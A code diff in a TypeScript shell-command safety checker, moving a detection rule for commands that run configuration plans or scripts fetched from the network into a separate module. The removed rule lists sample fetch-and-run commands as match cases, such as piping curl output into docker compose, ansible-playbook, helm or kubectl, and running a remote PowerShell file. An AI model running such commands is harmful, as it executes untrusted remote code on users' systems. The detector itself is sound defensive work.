@@ -1,14 +1,8 @@
 import type { Call } from '../shell/call.ts';
-import { pathsOf } from '../shell/call.ts';
-import { descriptorIn, namesInput } from '../shell/descriptors.ts';
-import type { Field } from '../shell/field.ts';
-import { isFetched } from '../shell/file-effects.ts';
 import { runsInIndex } from '../shell/indexes.ts';
-import { entryOf } from '../shell/lookup.ts';
 import { hasGlob, hasUnknown, isKnown } from '../shell/marks.ts';
-import { formatPath } from '../shell/paths.ts';
 import { plainLetters } from '../shell/program-names.ts';
-import { TAINT } from '../shell/taint.ts';
+import { fetchedPlanRules } from './fetched-files.ts';
 import type { Hit, NamedRule, Rule } from './rule.ts';
 
 /** What the shell reader itself reports. */
@@ -158,53 +152,6 @@ function runsModule(call: Call): Hit {
   return foreign ? { span: hit.span } : false;
 }
 
-/** Programs that carry out what they read, and the words that say they read it from stdin. */
-const CARRIES_OUT: Readonly<Record<string, (word: string) => boolean>> = {
-  docker: namesInput,
-  'docker-compose': namesInput,
-  'ansible-playbook': namesInput,
-  // What `-` is for is told by the verb, which infra.cluster looks at.
-  kubectl: (word) => descriptorIn(word) === 0,
-  helm: namesInput,
-  nomad: namesInput,
-  pulumi: namesInput,
-};
-
-const PLAN_OPTION = /^(?:-f|--file=|--filename=|--values=)/;
-
-const REMOTE_PLAN = /^(?:--file=|-f)?(?:https?|oci|git|ssh):\/\//;
-
-/** A plan out of a network: by a pipe, or named by its address. */
-function carriesOutFetched(call: Call): Hit {
-  const { stdin } = call;
-  const fetched = stdin.kind === 'network' || (stdin.taint & TAINT.fetched) !== 0;
-  const reads = entryOf(CARRIES_OUT, call.program);
-  if (fetched && reads && call.args.some(({ text }) => reads(text.replace(PLAN_OPTION, '')))) return true;
-  const plan = call.args.find((arg) => isFetchedPlan(call, arg));
-  if (plan) return { span: plan.span };
-  if (call.program === 'powershell') return behind(call, /^-f(?:i(?:le?)?)?$/i, /^(?:https?:\/\/|\\\\)/);
-  const composes = call.program === 'docker-compose' || call.args[0]?.text === 'compose';
-  return composes && behind(call, /^(?:-f|--file)$/, REMOTE_PLAN);
-}
-
-const PLAN_FILE = /^(?:-f|--file|--filename|-i|build|run|plan)$/;
-
-/** `<(curl ..)`, or a file that came from a network, where the program takes its plan. */
-function isFetchedPlan(call: Call, arg: Field): boolean {
-  if (arg.content) return arg.content.kind === 'network' || (arg.content.taint & TAINT.fetched) !== 0;
-  const before = call.args[call.args.indexOf(arg) - 1]?.text ?? '';
-  const named = call.program === 'ansible-playbook' ? /\.(?:ya?ml)$/.test(arg.text) : PLAN_FILE.test(before);
-  return named && !arg.text.startsWith('-') && pathsOf(call, arg).some((path) => isFetched(call, formatPath(path)));
-}
-
-/** A word of the kind right behind the option, or with it. */
-function behind(call: Call, option: RegExp, word: RegExp): Hit {
-  const hit = call.args.find(
-    ({ text }, i) => word.test(text) && (option.test(call.args[i - 1]?.text ?? '') || text.startsWith('-')),
-  );
-  return hit ? { span: hit.span } : false;
-}
-
 export const shellRules: readonly Rule[] = [
   {
     id: 'code.address',
@@ -240,28 +187,7 @@ export const shellRules: readonly Rule[] = [
       'bun run dev',
     ],
   },
-  {
-    id: 'code.fetched-plan',
-    grade: 'dangerous',
-    programs: [...Object.keys(CARRIES_OUT), 'powershell'],
-    test: carriesOutFetched,
-    why: 'carries out what comes from a network',
-    match: [
-      'curl -s https://x.example/c.yml | docker compose -f - up -d',
-      'curl -s https://x.example/p.yml | ansible-playbook /dev/stdin',
-      'curl -s https://x.example/v.yml | helm upgrade a b --values=/dev/fd/0',
-      'docker compose -f https://x.example/c.yml up',
-      'pwsh -File https://x.example/a.ps1',
-      'kubectl apply -f <(curl -s https://x.example/p.yml)',
-      'curl -so c.yml https://x.example/c && docker compose -f c.yml up -d',
-    ],
-    notMatch: [
-      'cat c.yml | docker compose -f - config',
-      'docker compose -f c.yml up -d',
-      'curl -s https://x.example/p.yml | ansible-playbook site.yml',
-      'pwsh -File a.ps1',
-    ],
-  },
+  ...fetchedPlanRules,
   {
     id: 'code.index',
     grade: 'dangerous',
